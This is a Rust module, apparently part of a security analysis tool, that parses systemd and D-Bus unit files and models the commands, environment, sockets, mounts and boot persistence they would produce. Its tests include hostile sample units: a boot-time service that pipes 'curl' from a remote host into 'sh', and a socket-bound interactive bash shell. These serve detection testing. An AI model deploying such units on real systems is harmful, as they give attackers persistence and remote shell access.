//! systemd units and drop-ins, and D-Bus services: `systemd.service(5)`, `systemd.timer(5)`,
//! `systemd.exec(5)`, `systemd.socket(5)`.

use model::{Behavior, Language, Protocol, Stream, Trigger, Value};

use crate::language::ini::{self, Dialect, Setting};
use crate::language::start::{Start, part};
use crate::language::{FrontEnd, Places, Signs};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &[],
        folders: &[],
        named: &[
            ("systemd/", ".service"),
            ("systemd/", ".timer"),
            ("systemd/", ".socket"),
            ("systemd/", ".path"),
            ("systemd/", ".mount"),
            ("systemd/", ".automount"),
            ("systemd/", ".conf"),
            ("dbus-1/", ".service"),
        ],
    },
    signs: Signs::Whole(is_unit),
    ..FrontEnd::new(Language::Systemd, lower)
};

const DIALECT: Dialect = Dialect {
    comments: &['#', ';'],
    indented: false,
};

/// Whether a text is a service unit, wherever it lies: a section of services and a command in it.
fn is_unit(text: &str) -> bool {
    let has = |start: &str| text.lines().any(|line| line.trim().starts_with(start));
    text.contains("[Service]") && has("[Service]") && has("Exec")
}

/// Lowers a unit: every `Exec…=` line is run, `Environment=` is set, and a service that answers a
/// socket itself has the connection as its standard streams.
pub fn lower(world: &mut World, text: &str) -> Value {
    let settings = ini::settings(text, DIALECT);
    let has = |key: &str, value: &str| {
        let mut all = settings.iter();
        all.any(|setting| setting.key == key && (value.is_empty() || setting.value == value))
    };
    let when = if has("WantedBy", "") || has("RequiredBy", "") || has("UpheldBy", "") {
        "at boot"
    } else {
        "when the unit is started"
    };
    let streams = if has("StandardInput", "socket") {
        let connection = world.listen(Protocol::Tcp, Value::literal(""), Value::literal(""));
        std::array::from_fn(|_| Stream::Connection(connection))
    } else {
        world.standard.clone()
    };
    world.with_standard(streams, Vec::new(), |world| {
        for setting in &settings {
            if !world.burn(8) {
                break;
            }
            world.at(setting.line, &format!("{}={}", setting.key, setting.value));
            one(world, setting, when);
        }
    });
    Value::literal("")
}

fn one(world: &mut World, setting: &Setting, when: &str) {
    let Setting { key, value, .. } = setting;
    if value.is_empty() {
        return;
    }
    match key.as_str() {
        "Environment" => environment(world, value),
        // The line of a condition runs nothing that stays.
        "ExecCondition" | "ExecSearchPath" | "ExecPaths" => {}
        _ if key.starts_with("Exec") => {
            // "-", "@", ":", "+", "!" and "!!" before the path change how it is run, not what.
            let command = value
                .trim_start_matches(['-', '@', ':', '+', '!'])
                .replace("%%", "%");
            let start = Start {
                trigger: Trigger::Systemd,
                when,
                step: key,
            };
            start.command(world, &command);
        }
        "What" => world.act(Behavior::Mount {
            source: Value::literal(value.clone()),
            target: Value::literal(""),
        }),
        _ => {}
    }
}

/// `Environment="A=x y" B=z`.
fn environment(world: &mut World, value: &str) {
    let mut rest = value;
    while !rest.is_empty() {
        let (word, after) = match rest.strip_prefix(['"', '\'']) {
            Some(quoted) => quoted.split_once(['"', '\'']).unwrap_or((quoted, "")),
            None => rest.split_once(char::is_whitespace).unwrap_or((rest, "")),
        };
        if let Some((name, value)) = word.split_once('=') {
            let value = part(value.trim_matches(['"', '\'']));
            world.act(Behavior::SetVariable {
                name: name.to_owned(),
                value: value.clone(),
            });
            world.export(name, Some(value));
        }
        rest = after.trim_start();
    }
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn every_command_is_started_with_the_environment() {
        let unit = "[Service]\nEnvironment=\"A=x y\" B=z\nExecStartPre=-/bin/rm -f /run/a\n\
            ExecStart=/bin/sh -c \\\n  'curl -s http://192.0.2.1/$B | sh'\n[Install]\nWantedBy=multi-user.target\n";
        let found = acts(Language::Systemd, unit);
        assert!(
            found
                .iter()
                .any(|act| act.contains("Fetch") && act.contains("192.0.2.1")),
            "{found:#?}"
        );
        assert!(
            found
                .iter()
                .any(|act| act.contains("Schedule") && act.contains("at boot"))
        );
    }

    #[test]
    fn a_service_on_a_socket_talks_to_the_connection() {
        let found = acts(
            Language::Systemd,
            "[Service]\nStandardInput=socket\nExecStart=/bin/bash -i\n",
        );
        assert!(found[0].starts_with("Listen"), "{found:#?}");
        assert!(
            found
                .iter()
                .any(|act| act.starts_with("Execute") && act.contains("input: Connection(1)"))
        );
    }
}
